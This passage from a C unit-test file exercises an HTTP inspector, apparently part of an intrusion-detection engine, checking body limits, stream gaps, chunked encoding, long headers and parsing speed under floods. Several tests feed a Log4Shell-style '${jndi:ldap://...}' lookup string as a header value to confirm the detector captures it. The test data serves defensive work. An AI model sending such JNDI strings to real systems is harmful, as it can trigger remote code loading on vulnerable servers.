            fail_msg("no %s in %.*s", fact, (int)r->of[FIELD_FACT].len, (const char *)r->of[FIELD_FACT].p);
        if (!at && http_record_has(r, FIELD_FACT, BYTES_LIT("java.content")))
            fail_msg("%s, %s", rows[i].path, rows[i].answer);
        http_record_free(r);
    }
    assert_int_equal(holds_bytes(), 0);
}

/* --- limits, gaps --- */

static void test_response_limit(void **state)
{
    struct http_record *r = http_record_new();
    uint8_t body[10000];

    (void)state;
    count_reset();
    memset(body, 'x', sizeof body);
    http_record_feed(r, CLIENT, BYTES_LIT("GET / HTTP/1.1\r\n\r\n"), 0, false);
    http_record_feed(r, SERVER, BYTES_LIT("HTTP/1.1 200 OK\r\nContent-Length: 20000\r\n\r\n"), 0, false);
    for (int i = 0; i < 2; i++)
        http_record_feed(r, SERVER, bytes_of(body, sizeof body), 0, false);
    assert_int_equal(r->of[FIELD_HTTP_RESPONSE_BODY].len, 4 + 4096 + 1);
    assert_int_equal(counters[COUNT_HTTP_RESPONSE_SKIPPED], 20000 - 4096);
    http_record_feed(r, SERVER, BYTES_LIT("HTTP/1.1 500 No\r\n\r\n"), 0, false);
    assert_true(http_record_has(r, FIELD_HTTP_RESPONSE_LINE, BYTES_LIT("500")));
    assert_false(count_lost());
    http_record_free(r);
}

static void test_request_limit(void **state)
{
    struct http_record *r = http_record_new();

    (void)state;
    count_reset();
    r->config.http_request_body_limit = 10;
    http_record_feed(r, CLIENT, BYTES_LIT("POST / HTTP/1.1\r\nContent-Length: 30\r\n\r\n"), 0, false);
    http_record_feed(r, CLIENT, BYTES_LIT("012345678901234567890123456789"), 0, false);
    assert_text(r, FIELD_HTTP_REQUEST_BODY, "0 0=012345678901234567890123456789\n");
    assert_int_equal(counters[COUNT_HTTP_BODY_CUT], 1);
    http_record_free(r);
}

static void test_gaps(void **state)
{
    struct http_record *r = http_record_new();

    (void)state;
    /* within a body: framing goes on, the text does not */
    http_record_feed(r, CLIENT, BYTES_LIT("POST / HTTP/1.1\r\nContent-Length: 10\r\n\r\nabc"), 0, false);
    http_record_feed(r, CLIENT, BYTES_LIT("ghGET /2 HTTP/1.1\r\n\r\n"), 5, false);
    assert_text(r, FIELD_HTTP_REQUEST_BODY, "0 0=abc\n0 0=gh\n");
    assert_text(r, FIELD_HTTP_URI, "0 =/\n1 =/2\n");
    /* over the end of it: nobody knows where a message begins */
    http_record_feed(r, CLIENT, BYTES_LIT("POST /3 HTTP/1.1\r\nContent-Length: 10\r\n\r\nabc"), 0, false);
    http_record_feed(r, CLIENT, BYTES_LIT("GET /4 HTTP/1.1\r\n\r\n"), 8, false);
    assert_true(r->given_up[CLIENT]);
    assert_true(http_record_has(r, FIELD_RAW, BYTES_LIT("GET /4")));
    /* within a head: what there is is judged */
    http_record_feed(r, SERVER, BYTES_LIT("HTTP/1.1 200 OK\r\nX: y"), 0, false);
    http_record_feed(r, SERVER, BYTES_LIT("z\r\n\r\n"), 3, false);
    assert_true(r->given_up[SERVER]);
    assert_true(http_record_has(r, FIELD_HTTP_RESPONSE_HEADER, BYTES_LIT("X=y\n")));
    http_record_free(r);
    assert_int_equal(holds_bytes(), 0);
}

static void test_gap_in_chunk(void **state)
{
    struct http_record *r = http_record_new();

    (void)state;
    http_record_feed(r, CLIENT, BYTES_LIT("POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\na\r\nabc"), 0,
                     false);
    http_record_feed(r, CLIENT, BYTES_LIT("j\r\n1\r\nk\r\n0\r\n\r\nGET /2 HTTP/1.1\r\n\r\n"), 6, false);
    assert_text(r, FIELD_HTTP_REQUEST_BODY, "0 0=abc\n0 0=jk\n");
    assert_text(r, FIELD_HTTP_URI, "0 =/\n1 =/2\n");
    http_record_free(r);
}

/* --- long and hostile --- */

static void test_long_heads(void **state)
{
    static const size_t lengths[] = {60000, 65530, 200000};

    (void)state;
    for (size_t i = 0; i < 3; i++) {
        struct buf text = buf_within(1 << 20);
        struct http_record *whole = http_record_new(), *steps = http_record_new();

        count_reset();
        buf_add_str(&text, "GET / HTTP/1.1\r\nX: ");
        while (text.len < lengths[i])
            buf_add_byte(&text, 'x');
        buf_add_str(&text, "${jndi:ldap://h/a}\r\nY: z\r\n\r\nGET /2 HTTP/1.1\r\n\r\n");
        http_record_feed(whole, CLIENT, buf_bytes(&text), 0, true);
        assert_true(http_record_has(whole, FIELD_HTTP_REQUEST_HEADER, BYTES_LIT("${jndi:ldap://h/a}")));
        assert_true(http_record_has(whole, FIELD_HTTP_URI, BYTES_LIT("1 =/2\n")));
        assert_int_equal(counters[COUNT_HTTP_HEAD_CUT], lengths[i] > 65500);
        http_record_steps(steps, CLIENT, buf_bytes(&text), 1000);
        http_record_end(steps);
        http_record_same(whole, steps);
        http_record_free(whole);
        http_record_free(steps);
        buf_drop(&text);
    }
    assert_int_equal(holds_bytes(), 0);
}

/* The same conversation n times as long must not take more than n times as long, give or take the clock. */
struct flood {
    const char *name, *start, *unit, *end;
    unsigned n;
};

static double flood_seconds(const struct flood *flood, unsigned n, size_t step)
{
    struct http_record *r = http_record_new();
    struct buf text = buf_within(64 << 20);
    clock_t start;

    r->keep_parts = false;
    buf_add_str(&text, flood->start);
    for (unsigned i = 0; i < n; i++)
        buf_add_str(&text, flood->unit);
    buf_add_str(&text, flood->end);
    start = clock();
    http_record_steps(r, CLIENT, buf_bytes(&text), step);
    http_record_end(r);
    start = clock() - start;
    http_record_free(r);
    buf_drop(&text);
    return (double)start / CLOCKS_PER_SEC;
}

static void test_floods_are_linear(void **state)
{
    static const struct flood floods[] = {
        {"requests", "", "GET / HTTP/1.1\r\nHost: x\r\n\r\n", "", 20000},
        {"chunks", "POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n", "1\r\nx\r\n", "0\r\n\r\n",
         100000},
        {"folds", "GET / HTTP/1.1\r\nX:", "\r\n a", "\r\n\r\n", 100000},
        {"headers", "GET / HTTP/1.1\r\n", "X-Head: value\r\n", "\r\n", 30000},
        {"one line", "GET / HTTP/1.1\r\nX: ", "xxxxxxxx", "\r\n\r\n", 100000},
        {"empty lines", "GET / HTTP/1.1\r\n\r\n", "\r\n", "", 100000},
        {"CR only", "GET / HTTP/1.1\r", "a\r", "", 100000},
        {"CR CR CR", "GET / HTTP/1.1", "\r\r", "", 100000},
        {"words", "GET ", "/ ", "HTTP/1.1\r\n\r\n", 30000},
        {"zeros", "POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n", "0000", "1\r\nx\r\n", 100000},
    };

    (void)state;
    for (size_t i = 0; i < sizeof floods / sizeof *floods; i++) {
        double small = 1e9, big = 1e9;

        for (int again = 0; again < 3; again++) { /* the best of three: the machine has other things to do */
            double a = flood_seconds(&floods[i], floods[i].n / 8, 1400),
                   b = flood_seconds(&floods[i], floods[i].n, 1400);

            small = a < small ? a : small;
            big = b < big ? b : big;
        }
        if (big > 0.01 && big > 8 * 3 * (small + 0.0005))
            fail_msg("%s: %f s for %u, %f s for %u", floods[i].name, small, floods[i].n / 8, big,
                     floods[i].n);
    }
    assert_int_equal(holds_bytes(), 0);
}

/* With no memory for holds nothing is lost but names. */
static void test_memory_short(void **state)
{
    struct http_record *r = http_record_new();

    (void)state;
    count_reset();
    holds_set_memcap(0);
    http_record_feed(r, CLIENT, BYTES_LIT("GET /a HTTP/1.1\r\nX: ${jndi:ld"), 0, false);
    http_record_feed(r, CLIENT, BYTES_LIT("ap://h/a}\r\n\r\n"), 0, true);
    holds_set_memcap(64 << 20);
    assert_true(http_record_has(r, FIELD_HTTP_URI, BYTES_LIT("/a")));
    assert_true(http_record_has(r, FIELD_RAW, BYTES_LIT("ap://h/a}")));
    assert_true(counters[COUNT_INSPECT_MEMORY] > 0);
    http_record_free(r);
}

static void test_state_is_small(void **state)
{
    (void)state;
    assert_true(http1_inspector.state_size <= 1024); /* 100,000 flows: under 100 MB */
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_recognise),
        cmocka_unit_test(test_long_first_line),
        cmocka_unit_test(test_transaction),
        cmocka_unit_test(test_body_codings),
        cmocka_unit_test(test_pairing),
        cmocka_unit_test(test_too_many_waiting),
        cmocka_unit_test(test_midstream),
        cmocka_unit_test(test_tunnels),
        cmocka_unit_test(test_class_file),
        cmocka_unit_test(test_object),
        cmocka_unit_test(test_endless_class),
        cmocka_unit_test(test_jar),
        cmocka_unit_test(test_packed_class),
        cmocka_unit_test(test_packed_answer),
        cmocka_unit_test(test_packed_answer_of_another_label),
        cmocka_unit_test(test_packed_answers_can_be_left),
        cmocka_unit_test(test_fetch_that_leads_nowhere),
        cmocka_unit_test(test_class_that_is_not_read),
        cmocka_unit_test(test_java_inside),
        cmocka_unit_test(test_no_java),
        cmocka_unit_test(test_long_class),
        cmocka_unit_test(test_response_limit),
        cmocka_unit_test(test_request_limit),
        cmocka_unit_test(test_gaps),
        cmocka_unit_test(test_gap_in_chunk),
        cmocka_unit_test(test_long_heads),
        cmocka_unit_test(test_floods_are_linear),
        cmocka_unit_test(test_memory_short),
        cmocka_unit_test(test_state_is_small),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
